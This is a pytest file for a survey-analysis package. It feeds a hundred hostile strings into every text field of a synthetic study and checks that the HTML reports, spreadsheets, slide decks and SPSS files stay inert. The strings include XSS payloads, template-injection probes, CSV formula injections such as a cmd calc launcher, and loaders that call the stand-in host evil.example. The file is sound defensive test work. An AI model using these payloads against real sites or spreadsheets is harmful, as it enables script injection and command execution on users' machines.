"""A hundred hostile texts at every place of a study where text can stand: data, never run.

One study has them all as titles, questions, labels, categories, options, names, ids and answers; it
is run once, and every file that leaves the house is read by the program that would run them.
"""

import csv
import re
import warnings
import zipfile
from pathlib import Path

import numpy as np
import pandas as pd
import pyreadstat
import pytest
import tomli_w
from lxml import etree

import psychoseg
from psychoseg.errors import PsychosegWarning
from psychoseg.run_folder import read_run

RUNS = "window.hacked=(window.hacked||0)+1"
HOSTILE = (
    # Scripts and handlers.
    f"<script>{RUNS}</script>",
    f"<ScRiPt>{RUNS}</sCrIpT>",
    f"</script><script>{RUNS}</script>",
    f"<script src=//evil.example/x.js>{RUNS}</script >",
    f"<script>//\u2028{RUNS}\u2029</script>",
    f"<img src=x onerror={RUNS}>",
    f'"><img src=x onerror="{RUNS}">',
    f"'><img src=x onerror='{RUNS}'>",
    f'" onmouseover="{RUNS}" x="',
    f"' onfocus='{RUNS}' autofocus tabindex=0 x='",
    f"` onclick=`{RUNS}`",
    f"<body onload={RUNS}>",
    f"<svg onload={RUNS}>",
    f"<svg><script>{RUNS}</script></svg>",
    f"<svg><animate onbegin={RUNS} attributeName=x dur=1s>",
    f"<svg><a xlink:href=javascript:{RUNS}><text y=9>x</text></a></svg>",
    f"<svg><use href='data:image/svg+xml,<svg onload={RUNS}/>'/>",
    f"<math><maction actiontype=statusline xlink:href=javascript:{RUNS}>x</maction></math>",
    f"<math><mtext></form><form><mglyph><style></math><img src onerror={RUNS}>",
    f"<details open ontoggle={RUNS}>",
    f"<video><source onerror={RUNS}>",
    f"<audio src=x onerror={RUNS}>",
    f"<input autofocus onfocus={RUNS}>",
    f"<select autofocus onfocus={RUNS}>",
    f"<marquee onstart={RUNS}>",
    f"<iframe srcdoc='<script>parent.{RUNS}</script>'></iframe>",
    f"<iframe src=javascript:parent.{RUNS}></iframe>",
    "<object data=//evil.example/x.swf></object>",
    "<embed src=//evil.example/x.swf>",
    f"<a href=javascript:{RUNS}>click</a>",
    f"<a href=\"jav&#x09;ascript:{RUNS}\">click</a>",
    f"<form action=javascript:{RUNS}><button>go",
    f"<button formaction=javascript:{RUNS}>go",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    f"<template><script>{RUNS}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={RUNS}>'>",
    f"<textarea></textarea><img src=x onerror={RUNS}>",
    f"<xmp></xmp><script>{RUNS}</script>",
    # Ways out of comments, styles, titles, CDATA and JSON.
    "<!--",
    "-->",
    f"<!--><script>{RUNS}</script>-->",
    "<!-- <script>",
    f"</title><script>{RUNS}</script>",
    f"</style><script>{RUNS}</script>",
    "</style></svg></desc></title></main></body></html>",
    "<style>*{display:none!important}</style>",
    "<style>@import '//evil.example/x.css';</style>",
    "red;background:url(//evil.example/x.png)",
    "expression(alert(1)); } body { display: none } /*",
    f"<![CDATA[<script>{RUNS}</script>]]>",
    "]]>",
    f'"}}];{RUNS};//',
    f'\\"}}];{RUNS};//',
    f"';{RUNS};//",
    f"\\';{RUNS};//",
    f"${{{RUNS}}}",
    f"`${{{RUNS}}}`",
    '{"__proto__": {"hacked": 1}}',
    "__proto__",
    "constructor",
    # Templates and marked-up text.
    "{{7*7}}",
    "{% for x in range(9) %}{% endfor %}",
    "{# gone #}",
    "{{ ''.__class__.__mro__ }}",
    "<%= 7*7 %>",
    "#{7*7}",
    "`r 7*7`",
    "`r system('touch hacked')`",
    "```{r}\nfile.create('hacked')\n```",
    "$\\frac{1}{0}$ & $unclosed \\input{/etc/passwd}",
    f"[click](javascript:{RUNS}) ![x](//evil.example/x.png)",
    "| a | b |\n|---|---|\n# head",
    "%s %d %(name)s {0} {name!r}",
    # Entities.
    f"&lt;script&gt;{RUNS}&lt;/script&gt;",
    "&amp;amp; &quot; &#39; &#x3C;b&#x3E; &nbsp;",
    "&bogus; &#0; &#xD800; &",
    f"\uff1cscript\uff1e{RUNS}\uff1c/script\uff1e",
    # What a spreadsheet runs.
    "=cmd|'/C calc'!A0",
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    '=WEBSERVICE("http://evil.example/")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\uff1d1+1",
    "'=1+1",
    '"=1+1"',
    '";=1+1;"',
    'a",=1+1,"b',
    "1E5",
    # Controls, directions, scripts, lengths.
    "\u202egnp.exe \u2066x\u2069",
    "a\u200b\u200d\ufeffb",
    "line one\nline two\r\nline three",
    "العربية עברית 健康意識 🙂👩‍👩‍👧 e\u0301",
    "Z\u0351\u036b\u0343a\u0313\u0366l\u0308\u0300g\u031a\u0302o\u0307",
    "Unbroken" * 60,
    "An endless label " * 60,
)  # fmt: skip
#: These stand in the study file alone: a file of answers with them is not read as text.
CONTROLS = "nul \x00 bell \x07 escape \x1b[31m backspace \x08 delete \x7f next line \x85 form \x0c"
N, PARTS = 300, 3
AGREE = HOSTILE[81:86]


def spread(slots: int, turn: int = 0) -> list[str]:
    """Return all hostile texts on some places, each place beginning with another of them."""
    texts = [*HOSTILE[turn:], *HOSTILE[:turn]]
    return [" ".join(texts[i::slots]) for i in range(slots)]


def make_study(folder: Path) -> Path:
    rng = np.random.default_rng(11)
    part = np.repeat(np.arange(PARTS), N // PARTS)
    data: dict[str, object] = {
        "id\n<b>=who</b>": [f"={i}<script>{RUNS}</script>" for i in range(N)]
    }
    items = [f"q{i}" for i in range(12)]
    centres = np.array([[2, 4, 3], [4, 2, 2], [3, 3, 5]])
    for i, item in enumerate(items):
        answer = np.clip(np.round(centres[part, i // 4] + rng.normal(scale=0.8, size=N)), 1, 5)
        data[item] = answer.astype(int)
    # The first battery was answered in words.
    for item in items[:4]:
        data[item] = [AGREE[int(a) - 1] for a in data[item]]
    # Ten columns of ten categories; one text a category, the column's own name hostile as well.
    columns = []
    for c in range(10):
        own = HOSTILE[10 * c : 10 * c + 10]
        name = f"{HOSTILE[(17 * c + 5) % 100]} {c}"
        code = (part * 3 + rng.integers(0, 5, N)) % 10
        if c % 2:
            data[name] = [own[i] for i in code]
            labels = {}
        else:
            data[name] = code
            labels = {str(i): text for i, text in enumerate(own)}
        columns.append(
            {
                "name": name,
                "label": spread(10, 7)[c] + (CONTROLS if c == 0 else ""),
                "type": "categorical",
                "labels": labels,
                "block": spread(10, 23)[c],
                "lawful_basis": HOSTILE[c],
            }
        )
    columns.append({"name": "age", "label": spread(1, 30)[0], "type": "numeric", "use": "active"})
    data["age"] = (30 + 10 * part + rng.integers(0, 15, N)).astype(int)
    options = [f"o{i}" for i in range(8)]
    for i, option in enumerate(options):
        data[option] = (rng.random(N) < 0.2 + 0.2 * (part == i % 3)).astype(int)
    data["said"] = [f"{HOSTILE[i % 100]} {('tea', 'milk', 'beer')[part[i]]}" for i in range(N)]
    data["wanted"] = [HOSTILE[(i * 7 + 50 * part[i]) % 100] for i in range(N)]
    for i in range(4):
        data[f"j{i}"] = np.clip(np.round(centres[part, i % 3] + rng.normal(size=N)), 1, 5).astype(
            int
        )
    data["w=<b>"] = np.where(rng.random(N) < 0.5, 0.8, 1.2)
    pd.DataFrame(data).to_csv(folder / FILE, index=False)
    everything = spread(1)[0]
    study = {
        "study": {
            "title": everything + CONTROLS,
            "description": spread(1, 10)[0],
            "population": spread(1, 20)[0],
            "source": spread(1, 40)[0],
        },
        "data": {"file": FILE, "id": "id\n<b>=who</b>", "missing": ["", "=missing"]},
        "items": [
            {
                "columns": items[:4],
                "question": spread(1, 50)[0],
                "codes": list(AGREE),
                "labels": dict(zip(items[:4], spread(4), strict=True)),
            },
            {
                "columns": items[4:],
                "question": spread(1, 60)[0],
                "range": [1, 5],
                "labels": dict(zip(items[4:], spread(8, 31), strict=True)),
            },
            {"columns": ["j0:j3"], "range": [1, 5], "question": CONTROLS},
        ],
        "weights": {"column": "w=<b>"},
        "scales": {
            "correlation": "pearson",
            "scale": [
                {"name": name, "items": items[4 * i : 4 * i + 4]}
                for i, name in enumerate(spread(3, 70))
            ],
        },
        "columns": columns,
        "sets": [
            {
                "name": "=set<b>",
                "columns": options,
                "label": spread(1, 80)[0],
                "labels": dict(zip(options, spread(8, 44), strict=True)),
            }
        ],
        "texts": [
            {"column": "said", "label": spread(1, 3)[0], "quotes": 20},
            {"column": "wanted", "label": spread(1, 90)[0], "quotes": 20, "language": "none"},
        ],
        "segments": {
            "k": PARTS,
            "bootstrap": 10,
            "null_replicates": 39,
            "audits": False,
            "names": {str(i + 1): text for i, text in enumerate(spread(PARTS, 55))},
            "texts": {str(i + 1): text for i, text in enumerate(spread(PARTS, 15))},
        },
        "profiles": {"min_base": 1},
        "actions": [
            {
                "name": name,
                "description": spread(4, 35)[i],
                "wants": {"age": "high", columns[i]["name"]: HOSTILE[10 * i + i]},
            }
            for i, name in enumerate(spread(4, 65))
        ],
        "jobs": [
            {"label": name, "importance": f"j{2 * i}", "satisfaction": f"j{2 * i + 1}"}
            for i, name in enumerate(spread(2, 25))
        ],
        "report": {"formats": ["html", "pptx", "xlsx", "csv", "sav"]},
    }
    (folder / "study.toml").write_text(tomli_w.dumps(study), encoding="utf-8", newline="\n")
    return folder


FILE = "answers <img src=x onerror=hacked()> &'.csv"


@pytest.fixture(scope="module")
def folder(tmp_path_factory):
    return make_study(tmp_path_factory.mktemp("hostile"))


@pytest.fixture(scope="module")
def run(folder):
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", PsychosegWarning)
        return psychoseg.run(folder, out=folder / "run")


@pytest.fixture(scope="module")
def page_of(run):
    """Return a function that gives a page of the run: as written, or without its policy."""
    comparison, _ = psychoseg.compare(run.folder, run.folder)
    paths = {"report": run.folder / "report.html", "comparison": comparison}

    def get(name: str, *, policy: bool) -> Path:
        path = paths[name]
        if policy:
            return path
        html, n = re.subn(r"<meta http-equiv=\"Content-Security-Policy\"[^>]*>", "", text_of(path))
        assert n == 1
        bare = path.with_name(f"{name}-bare.html")
        bare.write_text(html, encoding="utf-8", newline="\n")
        return bare

    return get


def text_of(path: Path) -> str:
    return path.read_bytes().decode("utf-8")


#: Elements that no page of ours has, wherever they come from.
FOREIGN = "iframe,object,embed,base,link,form,frame,marquee,video,audio,math,template,textarea,xmp"
SEEN = f"""() => {{
    const all = [...document.querySelectorAll('*')];
    const urls = ['href', 'xlink:href', 'src', 'action', 'formaction', 'srcdoc', 'data', 'poster'];
    return {{
        hacked: String(window.hacked),
        handlers: all.flatMap(e => e.getAttributeNames()).filter(a => a.startsWith('on')),
        foreign: [...document.querySelectorAll('{FOREIGN}')].map(e => e.outerHTML.slice(0, 200)),
        scripts: [...document.scripts].map(s => s.type + s.src),
        urls: all.flatMap(e => urls.map(a => e.getAttribute(a)))
            .filter(u => u && !u.startsWith('#') && !u.startsWith('data:image/png;base64,')),
        styles: [...document.styleSheets].flatMap(s => [...s.cssRules])
            .filter(r => r.cssText.includes('evil') || r instanceof CSSImportRule)
            .map(r => r.cssText),
        inline: all.map(e => e.getAttribute('style') || '').filter(s => /url|expression/.test(s)),
        proto: ({{}}).hacked === undefined,
    }};
}}"""
#: Sorts each table by each column both ways, filters, opens all, moves the cut, visits each branch.
USE = """async (texts) => {
    const did = {sorted: 0, filtered: 0, cuts: 0, visited: 0};
    const frame = () => new Promise(done => requestAnimationFrame(() => done()));
    document.querySelectorAll('details').forEach(d => { d.open = true; });
    for (const button of document.querySelectorAll('button.sort')) {
        button.click(); button.click(); did.sorted += 1;
    }
    for (const input of document.querySelectorAll('.filter input')) {
        for (const text of [...texts, '']) {
            input.value = text;
            input.dispatchEvent(new Event('input', {bubbles: true}));
            did.filtered += 1;
        }
    }
    const range = document.getElementById('xp-range');
    for (let k = range ? Number(range.min) : 1; range && k <= Number(range.max); k += 1) {
        range.value = k;
        range.dispatchEvent(new Event('input', {bubbles: true}));
        range.dispatchEvent(new Event('change', {bubbles: true}));
        await frame();
        for (const node of document.querySelectorAll('#xp [data-branch][role=button]')) {
            for (const name of ['pointerover', 'pointerenter', 'mouseover', 'click', 'focusin']) {
                node.dispatchEvent(new MouseEvent(name, {bubbles: true}));
            }
            did.visited += 1;
        }
        did.cuts += 1;
    }
    for (const node of document.querySelectorAll('main *')) {
        for (const name of ['mouseover', 'pointerover', 'focus']) {
            node.dispatchEvent(new Event(name));
        }
    }
    await frame();
    return did;
}"""


@pytest.mark.parametrize("policy", [True, False], ids=["as-written", "without-policy"])
@pytest.mark.parametrize("name", ["report", "comparison"])
def test_nothing_runs_opens_or_is_asked_for_in_a_browser(browser, page_of, name, policy):
    path = page_of(name, policy=policy)
    page = browser.new_page(viewport={"width": 1280, "height": 900})
    said: list[str] = []
    asked: list[str] = []
    page.on("console", lambda message: said.append(message.text))
    page.on("pageerror", lambda error: said.append(str(error)))
    page.on("dialog", lambda dialog: (said.append(dialog.message), dialog.dismiss()))
    page.on("popup", lambda other: asked.append(other.url))

    def watch(route):
        url = route.request.url
        if url == path.as_uri() or url.startswith("data:image/png"):
            route.continue_()
        else:
            asked.append(url)
            route.abort()

    page.route("**/*", watch)
    page.goto(path.as_uri())
    before = page.evaluate(SEEN)
    did = page.evaluate(USE, list(HOSTILE[::25]))
    # What starts after an error or an animation has its time.
    page.wait_for_timeout(300)
    after = page.evaluate(SEEN)
    # The place after the # is the explorer's own.
    url = page.url.split("#")[0]
    page.close()
    assert (said, asked, url) == ([], [], path.as_uri())
    scripts = ["application/json", "", ""] if name == "report" else []
    quiet = {
        "hacked": "undefined", "handlers": [], "foreign": [], "scripts": scripts, "urls": [],
        "styles": [], "inline": [], "proto": True,
    }  # fmt: skip
    assert before == quiet
    assert after == quiet
    if name == "report":
        assert did["sorted"] > 20
        assert did["filtered"] >= 5
        assert did["cuts"] >= 5
        assert did["visited"] > 50


def test_the_page_prints_each_text_as_it_is(browser, page_of):
    page = browser.new_page()
    page.goto(page_of("report", policy=True).as_uri())
    page.evaluate("() => document.querySelectorAll('details').forEach(d => { d.open = true; })")
    printed = squeezed(page.evaluate("document.body.textContent"))
    title = squeezed(page.title())
    page.close()
    # Directions, controls and doubled spaces are taken out; nothing else may be lost or changed.
    assert [t for t in HOSTILE if squeezed(t) not in printed] == []
    assert [t for t in HOSTILE if squeezed(t) not in title] == []


def squeezed(text: str) -> str:
    return re.sub(r"[\s\x00-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]+", "", text)


def test_no_cell_of_the_workbook_is_a_formula_or_a_link(run):
    import openpyxl

    path = run.folder / "tables.xlsx"
    book = openpyxl.load_workbook(path)
    cells = [c for sheet in book for row in sheet.iter_rows() for c in row if c.value is not None]
    assert len(cells) > 1000
    assert [c.value for c in cells if c.data_type in ("f", "e")] == []
    texts = squeezed(" ".join(c.value for c in cells if isinstance(c.value, str)))
    assert [t for t in HOSTILE[80:95] if squeezed(t) not in texts] == []
    with zipfile.ZipFile(path) as archive:
        names = archive.namelist()
        for name in (n for n in names if n.endswith((".xml", ".rels"))):
            root = etree.fromstring(archive.read(name))
            assert root.findall(".//{*}f") == [], name
            assert "External" not in [e.get("TargetMode") for e in root.iter()], name
        assert [n for n in names if "vba" in n.lower() or "externalLink" in n] == []


def test_the_deck_opens_and_has_no_link_out_of_it(run):
    from pptx import Presentation

    path = run.folder / "report.pptx"
    assert len(Presentation(str(path)).slides) > 5
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if name.endswith((".xml", ".rels")):
                root = etree.fromstring(archive.read(name))
                links = [e.get("Target") for e in root.iter() if e.get("TargetMode") == "External"]
                assert links == [], name
                assert [
                    e for e in root.iter() if str(e.tag).endswith("hlinkClick") and not _id(e)
                ] == []


def _id(element) -> str | None:
    ns = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    return element.get(f"{{{ns}}}id")


#: What a spreadsheet takes for the start of a formula (OWASP, "CSV Injection").
STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", '"=')


def test_no_cell_of_a_csv_file_is_run_by_a_spreadsheet(run):
    number = re.compile(r"[+-]?[0-9.]+([eE][+-]?[0-9]+)?")
    n_cells, risky = 0, []
    for path in sorted(run.folder.rglob("*.csv")):
        with path.open(encoding="utf-8-sig", newline="") as file:
            for cell in (c for row in csv.reader(file) for c in row):
                n_cells += 1
                # A spreadsheet may read by tab or semicolon too, but then sees quotes of its own.
                start = cell.lstrip(" \u00a0\ufeff")
                if start.startswith(STARTS) and not number.fullmatch(start):
                    risky.append((path.name, cell[:60]))
    assert n_cells > 5000
    assert risky == []


def test_a_run_read_again_has_every_text_unchanged(run, folder):
    again = read_run(run.folder)
    study = psychoseg.load_study(folder)
    assert again.study.to_toml() == run.study.to_toml()
    assert again.study.study.title == study.study.title
    assert study.study.title.startswith(" ".join(HOSTILE[:50]))
    assert again.study.model_dump(exclude={"folder", "report"}) == study.model_dump(
        exclude={"folder", "report"}
    )
    assert dict(again.survey.codebook) == dict(run.survey.codebook)
    pd.testing.assert_frame_equal(again.survey.ledger, run.survey.ledger, check_dtype=False)
    assert again.survey.ids.tolist() == run.survey.ids.tolist()
    pd.testing.assert_frame_equal(again.survey.texts, run.survey.texts, check_dtype=False)
    for name in run.profiles.__dataclass_fields__:
        one, other = getattr(run.profiles, name), getattr(again.profiles, name)
        pd.testing.assert_frame_equal(one, other, check_dtype=False, obj=name)
    categories = set(again.profiles.shares["category"])
    assert [t for t in HOSTILE if t.strip() not in {c.strip() for c in categories}] == []


def test_spss_reads_back_the_labels_of_values_and_columns(run):
    frame, meta = pyreadstat.read_sav(str(run.folder / "respondents.sav"))
    assert len(frame) == N
    back = {text for labels in meta.variable_value_labels.values() for text in labels.values()}
    # SPSS cuts a label of a value at 120 bytes.
    wanted = {cut(t, 120) for c in range(0, 10, 2) for t in HOSTILE[10 * c : 10 * c + 10]}
    assert {w for w in wanted if w not in {b.strip() for b in back}} == set()
    shown = set(meta.column_names_to_labels.values())
    assert cut(spread(4)[0], 256) in shown


def cut(text: str, size: int) -> str:
    return text.encode("utf-8")[:size].decode("utf-8", "ignore").strip()
